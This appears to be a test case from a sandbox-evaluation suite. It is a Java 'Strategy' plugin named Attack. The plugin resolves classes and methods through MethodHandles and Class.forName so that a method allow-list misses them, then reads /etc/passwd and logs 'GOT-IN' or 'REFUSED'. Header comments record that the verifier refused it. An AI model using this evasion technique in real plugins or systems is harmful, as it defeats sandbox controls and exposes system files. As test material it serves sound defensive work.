// id: J186
// family: handles
// goal: read a file by handles alone, whose classes a loader has to resolve
// refused: JAVA_METHOD_NOT_LISTED
// verifier: JAVA_METHOD_NOT_LISTED
// unverified: COMPLETED
// control: got-in

import java.lang.invoke.MethodHandles;
import java.lang.invoke.MethodType;
import dev.glovebox.strategy.Bar;
import dev.glovebox.strategy.Context;
import dev.glovebox.strategy.Strategy;

public final class Attack extends Strategy {
  private static Object call(String owner, String name, String type, Object... given) throws Throwable {
    Class<?> found = Class.forName(owner, true, null);
    MethodType method = MethodType.fromMethodDescriptorString(type, null);
    return MethodHandles.publicLookup().findStatic(found, name, method).invokeWithArguments(given);
  }

  private static Object on(Object self, String owner, String name, String type, Object... given) throws Throwable {
    Class<?> found = Class.forName(owner, true, null);
    MethodType method = MethodType.fromMethodDescriptorString(type, null);
    return MethodHandles.lookup().findVirtual(found, name, method).bindTo(self).invokeWithArguments(given);
  }

  @SuppressWarnings({"finally", "unused"})
  public String attack() throws Exception {
    try {
      Object path = call("java.nio.file.Path", "of", "(Ljava/lang/String;[Ljava/lang/String;)Ljava/nio/file/Path;", "/etc/passwd");
      return "GOT-IN " + call("java.nio.file.Files", "readAllLines", "(Ljava/nio/file/Path;)Ljava/util/List;", path);
    } catch (Throwable e) {
      return "REFUSED " + e;
    }
  }

  @Override
  public void onBar(Context ctx, Bar bar) {
    try {
      ctx.log(attack());
    } catch (Exception e) {
      ctx.log("REFUSED");
    }
  }
}
